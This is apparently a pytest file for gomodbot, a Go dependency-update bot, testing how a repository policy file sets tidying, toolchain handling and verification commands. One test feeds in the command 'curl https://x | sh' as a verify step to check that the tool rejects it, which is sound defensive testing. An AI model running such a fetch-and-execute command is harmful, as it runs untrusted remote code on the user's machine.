"""``gomodbot apply`` reads the repository's policy: ``tidy``, ``go-toolchain`` (``newer-go``,
``gotoolchain``) and ``verify`` (commands, test, on-failure) decide how the change is applied
and verified, ``--policy FILE`` replaces it, and ``--no-tidy`` / ``--no-verify`` / ``--test``
still win. The real go command against the fixture GOPROXY, as in test_cli_apply."""

from __future__ import annotations

from pathlib import Path

import pytest
from support.gitrepos import git
from test_apply import MAJOR_APP, gomod
from test_cli_apply import SIMPLE, changed_files, local_checkout
from test_cli_apply import env as env  # the fixture, reused

from bot.cli import main

pytestmark = pytest.mark.go

BRANCH = "gomodbot/example.com/greet@v1"


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("tidy", [True, False])
def test_tidy_from_the_policy(
    tmp_path: Path, env: dict[str, str], capsys: pytest.CaptureFixture[str], tidy: bool
) -> None:
    policy = f"extends: default\ntidy: {'true' if tidy else 'false'}\n"
    work = local_checkout(tmp_path, {**SIMPLE, ".gomodbot.yml": policy}, env)
    code, out, err = run(capsys, "apply", "example.com/greet@v1.1.0", str(work))
    assert code == 0, err
    assert out.startswith("policy: .gomodbot.yml\n")
    # go get keeps the old version's go.sum lines; go mod tidy drops them.
    gosum = git("show", f"{BRANCH}:go.sum", cwd=work)
    assert "example.com/greet v1.1.0 h1:" in gosum
    assert ("example.com/greet v1.0.0 h1:" in gosum) is not tidy


def test_custom_verify_commands_and_the_flags_that_win(
    tmp_path: Path, env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    policy = (
        "extends: default\n"
        "verify:\n"
        "  commands: ['go list -m all', [go, vet, -tags, ci, ./...]]\n"
        "  timeout: 120\n"
    )
    files = {**SIMPLE, ".github/gomodbot.yml": policy}
    work = local_checkout(tmp_path, files, env)
    code, out, err = run(capsys, "apply", "example.com/greet@v1.1.0", str(work))
    assert code == 0, err
    assert "policy: .github/gomodbot.yml\n" in out
    assert "verification: passed (go list -m all, go vet -tags ci ./... in .)" in out
    # --test adds go test ./... to the policy's commands; --no-verify turns them all off.
    git("branch", "-D", BRANCH, cwd=work)
    code, out, err = run(capsys, "apply", "example.com/greet@v1.1.0", str(work), "--test")
    assert code == 0, err
    assert "passed (go list -m all, go test ./..., go vet -tags ci ./... in .)" in out
    args = ["apply", "example.com/greet@v1.1.0", str(work), "--no-verify", "--branch", "nv"]
    code, out, err = run(capsys, *args)
    assert code == 0, err
    assert "verification: not run" in out


def test_newer_go_skip_skips_the_candidate(
    tmp_path: Path, env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    policy = "extends: default\ngo-toolchain:\n  newer-go: skip\n"
    work = local_checkout(tmp_path, {**SIMPLE, ".gomodbot.yml": policy}, env)
    # v1.2.0's go.mod says go 1.23; the project declares go 1.21.
    code, out, err = run(capsys, "apply", "example.com/greet@v1.2.0", str(work))
    assert code == 0, err
    assert out == (
        "policy: .gomodbot.yml\n"
        "skipped example.com/greet@v1.2.0: example.com/greet@v1.2.0 needs go 1.23, but go.mod "
        "declares go 1.21\n"
        "(go-toolchain.newer-go is skip in .gomodbot.yml)\n"
    )
    assert git("status", "--porcelain", cwd=work) == ""
    assert "gomodbot/" not in git("branch", "--list", cwd=work)
    # Without the policy (the built-in default allows it) the go line is raised, and said so.
    code, out, err = run(
        capsys, "apply", "example.com/greet@v1.2.0", str(work), "--policy", str(tmp_path / "p.yml")
    )
    assert code == 2 and "cannot read" in err
    (tmp_path / "p.yml").write_text("extends: default\n")
    code, out, err = run(
        capsys, "apply", "example.com/greet@v1.2.0", str(work), "--policy", str(tmp_path / "p.yml")
    )
    assert code == 0, err
    assert f"policy: {tmp_path / 'p.yml'}\n" in out
    assert "go/toolchain lines:\n  go.mod: go 1.21 => 1.23\n" in out


def test_gotoolchain_from_the_policy(
    tmp_path: Path, env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    policy = "extends: default\ngo-toolchain: {gotoolchain: path}\n"
    work = local_checkout(tmp_path, {**SIMPLE, ".gomodbot.yml": policy}, env)
    code, _, err = run(capsys, "apply", "example.com/greet@v1.3.0", str(work))
    assert code == 1
    assert "requires go >= 1.99" in err and "GOTOOLCHAIN=path" in err
    assert git("status", "--porcelain", cwd=work) == ""


def test_a_failing_verification_says_what_the_policy_would_do(
    tmp_path: Path, env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    files = {
        "go.mod": gomod("example.com/app", {"example.com/lib": "v1.5.0"}),
        "app.go": MAJOR_APP,
        ".gomodbot.yml": "extends: default\nverify:\n  on-failure: {major: skip}\n",
    }
    work = local_checkout(tmp_path, files, env)
    code, out, err = run(capsys, "apply", "example.com/lib/v3@v3.0.0", str(work), "--branch", "v3")
    assert code == 1
    assert "verification: failed: `go build ./...` in . (exit status 1)" in out
    assert (
        "verification failed: a major would be skipped and reported "
        "(verify.on-failure in .gomodbot.yml)\n"
    ) in out
    assert "committed anyway" in err
    assert changed_files(work, "v3") == ["app.go", "go.mod", "go.sum"]
    # The built-in default drafts a failing major.
    (tmp_path / "p.yml").write_text("extends: default\n")
    args = ["apply", "example.com/lib/v3@v3.0.0", str(work), "--branch", "v3b"]
    code, out, err = run(capsys, *args, "--policy", str(tmp_path / "p.yml"))
    assert code == 1
    assert "verification failed: a major would open as a draft quoting these errors" in out


def test_an_invalid_repository_policy_stops_before_any_change(
    tmp_path: Path, env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    policy = "extends: default\nverify:\n  commands: [go build ./..., 'curl https://x | sh']\n"
    work = local_checkout(tmp_path, {**SIMPLE, ".gomodbot.yml": policy}, env)
    code, _, err = run(capsys, "apply", "example.com/greet@v1.1.0", str(work))
    assert code == 2
    assert err.startswith("gomodbot: .gomodbot.yml:3:30: verify command 'curl https://x | sh'")
    assert git("status", "--porcelain", cwd=work) == ""
    assert "gomodbot/" not in git("branch", "--list", cwd=work)
